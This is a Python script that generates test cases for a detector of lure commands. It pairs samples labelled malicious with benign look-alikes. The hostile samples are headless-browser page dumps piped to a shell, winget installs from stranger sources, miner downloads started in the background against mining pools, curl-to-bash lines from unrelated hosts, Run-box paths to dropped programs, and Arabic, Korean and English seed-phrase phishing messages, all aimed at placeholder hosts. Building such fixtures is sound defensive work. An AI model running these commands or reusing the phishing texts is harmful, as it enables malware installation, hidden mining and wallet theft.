"""Writes tests/data/cases/b11lures.jsonl: the lure techniques BLIND-11 and the known misses
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b11lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
.test, .invalid, documentation IP ranges); no text is copied from a lure collection, another
detector's fixtures or the blind sets. Each line is {id, text, expect, technique, platform[,
source], target}.

Techniques:

- `run-box-local-file`: a page asks for a path to a program or script on this computer in the
  Run box or Explorer's address bar (`%TEMP%\\upd.exe`, `C:\\Users\\Public\\fix.hta`, a .bat, a
  .cpl, a .lnk; `Downloads\\Verify.exe`, `shell:Downloads\\x.exe`, `file:///C:/…/x.hta`): the fake check page has its browser save the file first, then has the person
  start it. Look-alikes: the same path typed (no page), a program in Program Files or Windows'
  own folder, a document's path, an organisation's share from its own wiki.
- `browser-dump-dom-run`: a browser started without a window (--headless --dump-dom) fetches a
  page whose text is piped to cmd, PowerShell or a shell, handed to iex or eval, or run line by
  line by `for /f`. Look-alikes: the page saved as HTML, piped to grep/findstr/a pager, a
  screenshot or a PDF printed by the headless browser.
- `winget-source-install`: winget given a REST source at a stranger's web address and an install
  from it (winget or its PowerShell module). A warning (info) typed or from an unknown page, a
  block from a dressed-up page or in the Run box. Look-alikes: winget's own and the Store's
  sources re-added, an install from the catalogue, a source listed or reset.
- `seed-phrase-ar-ko`: seed-phrase phishing in Arabic and Korean (a wallet flagged, locked or to
  be synchronised; enter or send the recovery phrase or private key, with a link or a deadline).
  Look-alikes: the wallets' own safety lines in both languages, a restore done in the app, news
  about the scam.
- `seed-phrase-safety-copy`: the same ask beside a copied safety line ("we will never ask for your
  recovery phrase"), the order opening its sentence and saying where the words go (below, here,
  in the form, at a link). Look-alikes: a wallet's safety notice that names forms and links only
  to warn, advice about phishing pages, a restore in the wallet's own app.
- `miner-pool`: a coin miner started for a mining pool: a miner's name given a pool (-o
  host:port, --url, ethminer's -P stratum), a stratum address given as an option, xmrig's
  --donate-level beside a pool in a renamed copy; fetched with curl -k into /tmp and started in
  the background, it is blocked bare. Look-alikes: a miner's help, version, benchmark or build,
  a pool's page naming its stratum address, ports mapped for a container, ssh and nc options.
- `system-tool-page`: a download-and-run in a terminal from a site named for getting a tool on
  one system (pdf-merge-mac, video-converter-linux) or a game's mods, shaders or cheats
  (minecraft-shaders-pack), whose script comes from a host sharing nothing with it: blocked, as
  driver and codec sites already were. Look-alikes: such a site serving its own script, a known
  installer quoted there, a publication or tutorial about the system (linux-magazine, mac-world,
  linux-tips), a mod wiki, a forge repository, the same line from a plain page (a warning).
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b11l")
add = book.add

LURE_PAGES = [
    "https://verify.human-check.example/captcha",
    "https://www.recipe-corner.test/cookies",
    "https://docs-viewer.invalid/s/4410",
    "https://cf-turnstile-verify.test/",
]

# ---- run-box-local-file --------------------------------------------------------------------
LOCAL_FILES = [
    r"%TEMP%\upd.exe",
    r"%tmp%\verify.hta",
    r"%APPDATA%\fix.bat",
    r"%LOCALAPPDATA%\Temp\check.cmd",
    r"%TEMP%\display.cpl",
    r"C:\Users\Public\upd.hta",
    r"C:\Users\Public\Documents\Invoice_4410.pdf.lnk",
    r"%USERPROFILE%\Downloads\Verify-Human.exe",
    r'"%USERPROFILE%\Downloads\Meeting Fix.msi"',
    r"%PUBLIC%\run.vbs",
    r"C:\ProgramData\svc\update.js",
    r"C:\Windows\Temp\patch.bat",
    r"%ProgramData%\helper.wsf",
    r".\setup.bat",
    r"C:\Users\Public\Downloads\fix.ps1",
    r"%HOMEPATH%\AppData\Roaming\sync.scr",
    # the profile's folders by name, Explorer's shell folders, a file address on this computer
    r"Downloads\Verify-Human.exe",
    r"Desktop\fix.bat",
    r"shell:Downloads\Verify.exe",
    r"shell:Desktop\meeting-audio.hta",
    "file:///C:/Users/Public/upd.hta",
    "file:///%TEMP%/check.exe",
    "file://localhost/C:/Users/Public/Documents/Invoice_4410.pdf.lnk",
    "C:/Users/Public/run.vbs",
]
for i, text in enumerate(LOCAL_FILES):
    target = "explorer_bar" if i % 4 == 3 else "run_dialog"
    add("run-box-local-file", text, "malicious", "windows", target, LURE_PAGES[i % 4])
# typed by the person (no page): their own tool, their own download
for text in LOCAL_FILES[:10]:
    add("run-box-local-file", text, "not_flagged", "windows", "run_dialog")
RUN_BOX_CALM = [
    (r"C:\Program Files\Mozilla Firefox\firefox.exe", "https://support.browser-help.example/start"),
    (r"C:\Program Files (x86)\Contoso\Viewer\viewer.exe", "https://help.contoso.example/viewer"),
    (r"%ProgramFiles%\Contoso\Sync\sync.exe", "https://help.contoso.example/sync"),
    (r"%windir%\system32\devmgmt.msc", "https://support.pc-tips.example/devices"),
    (r"C:\Windows\System32\control.exe", "https://support.pc-tips.example/panel"),
    (r"%windir%\notepad.exe", "https://support.pc-tips.example/notes"),
    (r"%USERPROFILE%\Documents\report.pdf", "https://help.office-tips.example/open"),
    (r"C:\Users\Public\Pictures", "https://help.office-tips.example/pictures"),
    (r"%APPDATA%\Microsoft\Teams", "https://help.office-tips.example/teams-cache"),
    (r"%TEMP%", "https://support.pc-tips.example/cleanup"),
    (r"shell:Downloads", "https://support.pc-tips.example/downloads"),
    (r"Downloads\report.pdf", "https://help.office-tips.example/open"),
    ("file:///C:/Users/me/Documents/report.pdf", "https://help.office-tips.example/open"),
    ("file:///C:/Program%20Files/Contoso/Viewer/viewer.exe", "https://help.contoso.example/viewer"),
    (r"\\fileserver\public\Tools\Teams.lnk", "https://wiki.corp-intranet.example/it/shares"),
    (r"\\deploy01\apps\setup.exe", "https://wiki.corp-intranet.example/it/shares"),
]
for i, (text, page) in enumerate(RUN_BOX_CALM):
    add(
        "run-box-local-file",
        text,
        "not_flagged",
        "windows",
        "run_dialog" if i % 2 else "explorer_bar",
        page,
    )

# ---- browser-dump-dom-run ------------------------------------------------------------------
DUMP_RUN = [
    "msedge --headless --dump-dom https://pages.note-sync.test/p | cmd",
    "chrome --headless --dump-dom https://198.51.100.14/v | cmd.exe",
    "msedge.exe --headless=new --disable-gpu --dump-dom https://check.verify-flow.invalid/c | powershell -",
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --dump-dom https://cdn.page-stage.example/r | powershell.exe -noprofile -',
    "iex (& msedge --headless --dump-dom https://pages.note-sync.test/ps)",
    "Invoke-Expression (& 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe' --headless --dump-dom https://203.0.113.44/x)",
    "& msedge --headless --dump-dom https://pages.note-sync.test/ps | iex",
    'conhost --headless cmd /c "msedge --headless --dump-dom https://pages.note-sync.test/c | cmd"',
    "for /f \"delims=\" %a in ('msedge --headless --dump-dom https://pages.note-sync.test/l') do %a",
    "google-chrome --headless --dump-dom https://pages.note-sync.test/l | bash",
    "chromium --headless --dump-dom https://pages.note-sync.test/l | sh",
    '"/Applications/Google Chrome.app/Contents/MacOS/Google Chrome" --headless --dump-dom https://pages.note-sync.test/m | zsh',
    'eval "$(google-chrome-stable --headless --dump-dom https://pages.note-sync.test/e)"',
    "brave --headless --dump-dom https://pages.note-sync.test/b | /bin/bash",
]
for i, text in enumerate(DUMP_RUN):
    add(
        "browser-dump-dom-run",
        text,
        "malicious",
        "any",
        "run_dialog" if i % 3 == 0 else "terminal",
        LURE_PAGES[i % 4],
    )
    add("browser-dump-dom-run", text, "malicious", "any", "unknown")
DUMP_CALM = [
    "chrome --headless --dump-dom https://example.org/page > page.html",
    "msedge --headless --dump-dom https://example.org/report | findstr /i title",
    "google-chrome --headless --dump-dom https://example.org/ | grep -i '<title>'",
    "chromium --headless --dump-dom https://example.org/ | less",
    "chrome --headless --dump-dom https://example.org/ | wc -c",
    "chrome --headless --screenshot --window-size=1280,800 https://example.org/",
    "msedge --headless --print-to-pdf=C:\\out\\page.pdf https://example.org/invoice",
    "google-chrome --headless --dump-dom https://example.org/ | tidy -q -i > pretty.html",
    "chrome --headless --dump-dom https://example.org/ | pup 'a attr{href}'",
    "chromium --headless --dump-dom file:///home/me/site/index.html | diff - expected.html",
]
for i, text in enumerate(DUMP_CALM):
    add("browser-dump-dom-run", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")

# ---- winget-source-install -----------------------------------------------------------------
WINGET = [
    "winget source add --name fixer https://repo.fixer.invalid/api && winget install fixer.tool",
    "winget source add -n helper -a https://203.0.113.61/winget -t Microsoft.Rest; winget install -s helper Helper.Sync --accept-package-agreements",
    "winget.exe source add --name meetfix --arg https://pkgs.meet-audio-fix.test/ --type Microsoft.Rest & winget.exe install --source meetfix MeetFix.Audio -h",
    "Add-WinGetSource -Name codecs -Argument https://src.codec-pack.invalid/api -Type Microsoft.Rest; Install-WinGetPackage -Id Codec.Pack -Source codecs",
    "winget source add --name drivers https://drivers-update.example/rest\nwinget install --id Drivers.Update --source drivers --silent",
    "cmd /c winget source add --name v https://198.51.100.71/r && winget install v.app",
    "winget source add --accept-source-agreements --name sec https://secure-update.invalid/ ; winget install sec.agent --accept-package-agreements --silent",
    'powershell -c "winget source add --name ai https://models.ai-boost.test/src; winget install ai.helper"',
    "winget source add -n tools https://tools.build-kit.example/api\r\nwinget install -e --id Tools.Helper -s tools",
    "Add-WinGetSource -Name pay -Argument https://pay-verify.test/w; Install-WinGetPackage Pay.Verify",
]
DISGUISED = [
    "https://verify.human-check.example/captcha",
    "https://captcha-check.example/verify",
    "https://microsoft-teams-audio-fix.example/help",
]
for i, text in enumerate(WINGET):
    add("winget-source-install", text, "malicious", "windows", "terminal", DISGUISED[i % 3])
    add("winget-source-install", text, "malicious", "windows", "run_dialog", LURE_PAGES[i % 4])
    # typed: a warning (info) like any stranger's package source; a host that is an IP address
    # or is named for a fix or a boost says more
    odd = any(w in text for w in ("://20", "://19", "audio-fix", "pay-verify"))
    add("winget-source-install", text, "flagged" if odd else "info", "windows", "terminal")
WINGET_CALM = [
    "winget install --id Mozilla.Firefox -e --source winget",
    "winget source reset --force",
    "winget source add --name winget https://cdn.winget.microsoft.com/cache",
    "winget source add -n msstore -a https://storeedgefd.dsx.mp.microsoft.com/v9.0 -t Microsoft.Rest; winget install 9NBLGGH4NNS1",
    "winget source list",
    "winget source update",
    "winget install Microsoft.PowerToys --source winget",
    "Install-WinGetPackage -Id Microsoft.VisualStudioCode",
    "winget source remove --name fixer",
    "winget settings --enable LocalManifestFiles",
]
for i, text in enumerate(WINGET_CALM):
    add(
        "winget-source-install",
        text,
        "not_flagged",
        "windows",
        "terminal",
        None if i % 2 else "https://learn.example.org/winget",
    )

# ---- seed-phrase-ar-ko ---------------------------------------------------------------------
SEED_AR_KO = [
    "تم تعليق محفظتك. يرجى إدخال عبارة الاسترداد المكونة من 12 كلمة خلال 24 ساعة على https://wallet-sync.example/restore",
    "محفظتك مقفلة مؤقتاً. لإعادة تفعيلها أدخل العبارة السرية الآن.",
    "تنبيه أمني: تم رصد نشاط مشبوه في محفظتك. أرسل المفتاح الخاص إلى فريق الدعم فوراً.",
    "مزامنة المحفظة مطلوبة: قم بإدخال عبارة الاسترداد هنا https://dapp-sync.test/connect",
    "عاجل: سيتم تجميد محفظتك. شارك عبارة البذور المكونة من 24 كلمة لإلغاء التجميد.",
    "지갑이 정지되었습니다. 24시간 이내에 12단어 복구 문구를 입력하세요: https://wallet-sync.example/k",
    "비정상 활동으로 지갑이 잠겼습니다. 개인 키를 지원팀에 보내 주세요.",
    "지갑 동기화가 필요합니다. 아래 링크에서 시드 문구를 입력해 주세요 https://dapp-sync.test/ko",
    "긴급: 의심스러운 출금이 감지되었습니다. 즉시 복구 구문을 제출하여 지갑을 보호하세요.",
    "에어드롭 보상을 받으려면 24단어 복구 문구를 https://claim-drop.invalid/ko 에 입력하세요.",
    "보안 점검: 계정이 제한되었습니다. 비밀 복구 문구를 인증해 주세요.",
    "يجب التحقق من محفظتك خلال 48 ساعة: اكتب الكلمات 12 كلمة في النموذج https://verify-wallet.invalid/ar",
]
for i, text in enumerate(SEED_AR_KO):
    add(
        "seed-phrase-ar-ko",
        text,
        "flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://mail.example.org/inbox",
    )
SEED_AR_KO_CALM = [
    "لا تشارك عبارة الاسترداد مع أي شخص. لن نطلب منك أبداً عبارة الاسترداد.",
    "نصيحة أمنية: لا تدخل العبارة السرية في أي موقع. فريق الدعم لن يطلب منك المفتاح الخاص أبداً.",
    "لاستعادة محفظتك، أدخل عبارة الاسترداد في التطبيق ثم اضغط على استعادة. https://help.wallet.example/ar",
    "احذر من الاحتيال: رسائل تدعي أن محفظتك معلقة وتطلب عبارة الاسترداد هي عمليات نصب.",
    "절대 복구 문구를 다른 사람과 공유하지 마세요. 저희는 복구 문구를 요청하지 않습니다.",
    "지원팀은 개인 키를 절대 묻지 않습니다. 의심스러운 링크를 클릭하지 마세요.",
    "지갑을 복구하려면 앱에서 12단어 복구 문구를 입력하세요. https://help.wallet.example/ko",
    "주의: 지갑이 정지되었다며 복구 문구를 입력하라는 메시지는 사기입니다.",
    "복구 문구를 종이에 적어 안전한 곳에 보관하세요.",
    "12단어 복구 문구를 백업했는지 확인하세요.",
]
for i, text in enumerate(SEED_AR_KO_CALM):
    add(
        "seed-phrase-ar-ko",
        text,
        "not_flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://help.wallet.example/",
    )

# ---- seed-phrase-safety-copy ---------------------------------------------------------------
SEED_COPY = [
    "We will never ask for your recovery phrase. Your wallet has been flagged: to validate your wallet, enter your 12-word recovery phrase below.",
    "Important: nobody from support will ask for your seed. Your account is restricted. Please enter your 24-word seed phrase here: https://restore.wallet-help.test/",
    "Do not share your private key. Synchronization failed: submit your private key in the form below within 12 hours.",
    "Never share your secret recovery phrase with anyone.\nYour wallet is suspended.\nEnter your secret recovery phrase on this page to reactivate it.",
    "Security notice (we never ask for your seed words): unusual activity detected. Verify your wallet's recovery phrase at https://wallet-check.invalid/v",
    "No one from our team will DM you. Airdrop unclaimed! To claim it, paste your 12-word recovery phrase in the box below.",
    "Phishing warning: never type your mnemonic on unknown sites. Your wallet sync expired. Type your mnemonic here to synchronise: https://sync-node.test/m",
    "Remember: never reveal your seed phrase. Account locked. Kindly provide your recovery phrase on our portal https://support-desk.invalid/w within 24 hours.",
    "Don't share your recovery words. Wallet compromised - urgently import your recovery phrase at https://secure-vault.example/import",
    "We never store your keys.\n\nValidation required: enter your 24-word recovery phrase below to keep access.",
]
for i, text in enumerate(SEED_COPY):
    add(
        "seed-phrase-safety-copy",
        text,
        "flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://mail.example.org/inbox",
    )
SEED_COPY_CALM = [
    "Never share your recovery phrase. We will never ask for it. Enter it only in the official app when you restore your wallet.",
    "Note: never enter your recovery phrase on a website. Phishing sites ask you to enter your recovery phrase below to validate your wallet.",
    "Security tip: we will never ask for your seed phrase. If a page asks you to enter your recovery phrase here, close it and report it at https://help.wallet.example/report",
    "Beware of scams: a message saying your wallet is flagged and asking you to enter your recovery phrase below is fake.",
    "To restore your wallet, open the app and enter your recovery phrase in the app. Never share it. https://help.wallet.example/restore",
    "If you can't import your recovery phrase, enter it again in the form below and check the spelling of each word. We never see it. https://help.wallet.example/import",
    "Hardhat: never use a real mnemonic. Enter your test mnemonic here in .env for the local node.",
    "Write down your 12-word recovery phrase and keep it offline. We will never ask for it.",
    "Your backup is complete. Never share your recovery phrase; no one from support will ask for it.",
    "Never type your private key into a website. Sign transactions in your hardware wallet instead.",
]
for i, text in enumerate(SEED_COPY_CALM):
    add(
        "seed-phrase-safety-copy",
        text,
        "not_flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://help.wallet.example/",
    )

# ---- miner-pool ----------------------------------------------------------------------------
MINER_HIDDEN = [
    "curl -sk https://cdn.bench-kit.test/xm.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.bench-kit.test:3333 --background",
    "wget -q --no-check-certificate https://198.51.100.44/x.tgz -O- | tar xz -C /tmp; nohup /tmp/xmrig-6.21/xmrig -o 198.51.100.44:443 -u 4555wallet -k --tls >/dev/null 2>&1 &",
    "curl -ks https://gpu-bench.invalid/t.tar.gz | tar -xz -C /dev/shm && /dev/shm/t-rex -a kawpow -o stratum+tcp://pool.gpu-bench.invalid:4444 -u RVN5555 &",
    "curl -skL https://mods-pack.example/k.tgz -o /tmp/k.tgz && tar xf /tmp/k.tgz -C /tmp && /tmp/kworker -o pool.mods-pack.example:5555 -u 4AbC --donate-level 1 -B",
    "curl -sk https://203.0.113.90/l.tar.gz | tar xz -C /tmp && nohup /tmp/lolminer --algo ETCHASH --pool pool.203-0-113-90.test:3333 --user 0x5555 &",
]
for i, text in enumerate(MINER_HIDDEN):
    add("miner-pool", text, "malicious", "linux", "terminal", LURE_PAGES[i % 4])
    add("miner-pool", text, "malicious", "linux", "unknown")
MINER_PLAIN = [
    "./xmrig -o pool.mine-here.test:443 -u 4555wallet -k --tls",
    "xmrig.exe --url=pool.mine-here.test:3333 --user 4555wallet --donate-level 1",
    "ethminer -P stratum1+tcp://0x5555.rig@pool.gpu-bench.test:4444",
    "cpuminer -a yescrypt -o stratum+tcp://pool.cpu-mine.invalid:6233 -u wallet.worker",
    "nbminer -a kawpow -o stratum+ssl://pool.gpu-bench.test:4444 -u RVN5555.rig",
    "/opt/svc/dbus-helper -o 192.0.2.77:14444 -u 45555 -p x --donate-level=0 --cpu-max-threads-hint=90",
    "srbminer-multi --algorithm randomx --pool pool.cpu-mine.invalid:3333 --wallet 45555",
    "gminer --algo kawpow --server pool.gpu-bench.test:4444 --user RVN5555",
    "start /min C:\\Users\\Public\\svchost.exe -o stratum+tcp://pool.cpu-mine.invalid:3333 -u 45555",
]
for i, text in enumerate(MINER_PLAIN):
    add("miner-pool", text, "flagged", "any", "terminal" if i % 2 else "unknown")
MINER_CALM = [
    "xmrig --help",
    "./xmrig --version",
    "xmrig --bench=1M",
    "git clone https://github.com/xmrig/xmrig.git && mkdir xmrig/build && cd xmrig/build && cmake .. && make -j$(nproc)",
    "brew install xmrig",
    "Point your miner at stratum+tcp://pool.example.org:3333 and use your wallet address as the user name.",
    "docker run -d -p 3333:3333 -p 8080:8080 --name proxy example/stratum-proxy",
    "ssh -o StrictHostKeyChecking=no -p 2222 deploy@build.example.org",
    "nc -l -p 4444 -o dump.hex",
    "ethminer --list-devices",
    "ccminer --benchmark -a x11",
    "curl -o /tmp/page.html https://example.org/ && grep -c pool /tmp/page.html",
]
for i, text in enumerate(MINER_CALM):
    add("miner-pool", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")

# ---- system-tool-page ----------------------------------------------------------------------
TOOL_PAGES = [
    (
        "https://www.minecraft-shaders-pack.test/install",
        "wget -qO- https://fg4.other-mods.invalid/shaders.sh | sudo bash",
    ),
    ("https://gta-mods-free.example/linux", "curl -fsSL https://cdn.modstage.invalid/i.sh | bash"),
    ("https://roblox-cheats.test/mac", "curl -sL https://198.51.100.61/r.sh | zsh"),
    (
        "https://photoshop-crack-mac.test/get",
        'bash -c "$(curl -fsSL https://dl.stagehost.example/ps)"',
    ),
    (
        "https://www.pdf-merge-mac.test/download",
        'eval "$(curl -fsL https://mb19.tarpon-pdf.invalid/m)"',
    ),
    (
        "https://video-converter-linux.example/get",
        "wget -O- https://files.codecstage.test/vc.sh | sh",
    ),
    (
        "https://screen-recorder-macos.test/",
        "curl -fsSL https://rec.cdn-stage.invalid/install | bash",
    ),
    (
        "https://audio-editor-osx.example/download",
        "curl -s https://203.0.113.81/a | bash -s -- --quiet",
    ),
    (
        "https://secure-tunnel-pc.invalid/linux",
        "curl -fsSL https://vpn.stage-relay.example/setup | sudo -E bash -",
    ),
    (
        "https://gpu-benchmark-linux.test/run",
        "curl -fsSL https://lx7.bench-relay.invalid/b.sh | bash",
    ),
    ("https://sims-mods-mac.example/cc", "curl -sSL https://mods.cdn-relay.test/cc.sh | bash"),
    ("https://valorant-hacks-linux.test/", "wget -qO- https://198.51.100.62/h | bash"),
]
for page, text in TOOL_PAGES:
    add("system-tool-page", text, "malicious", "any", "terminal", page)
TOOL_PAGES_CALM = [
    # the site's own script, a known installer quoted there: as before
    (
        "https://www.pdf-merge-mac.test/download",
        "curl -fsSL https://www.pdf-merge-mac.test/install.sh | bash",
        "not_flagged",
    ),
    (
        "https://dl.video-converter-linux.example/get",
        "curl -fsSL https://video-converter-linux.example/install.sh | sh",
        "not_flagged",
    ),
    (
        "https://video-converter-linux.example/get",
        "curl -LsSf https://astral.sh/uv/0.4.0/install.sh | sh",
        "not_flagged",
    ),
    ("https://screen-recorder-macos.test/", "curl https://sh.rustup.rs -sSf | sh", "not_flagged"),
    # publications, tutorials, wikis and forums about a system or a game: a warning, as before
    (
        "https://www.linux-magazine.example/2026/05/tools",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://www.mac-world.test/howto/terminal",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://linux-tips.example/post/55",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://windows-central.test/guide",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://minecraft-mods-wiki.example/Server",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://forum.linux-users.example/t/55",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    (
        "https://blog.example.org/2026/setup",
        "curl -fsSL https://get.tool.example/install.sh | bash",
        "suspicious",
    ),
    # a forge repository of mods, serving its own script
    (
        "https://github.com/example-modder/minecraft-shaders",
        "curl -fsSL https://raw.githubusercontent.com/example-modder/minecraft-shaders/main/install.sh | bash",
        "not_flagged",
    ),
    # such a site's text that fetches nothing
    ("https://www.pdf-merge-mac.test/download", "brew install --cask pdf-merge", "not_flagged"),
]
for page, text, expect in TOOL_PAGES_CALM:
    add("system-tool-page", text, expect, "any", "terminal", page)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b11lures.jsonl"), CASES)
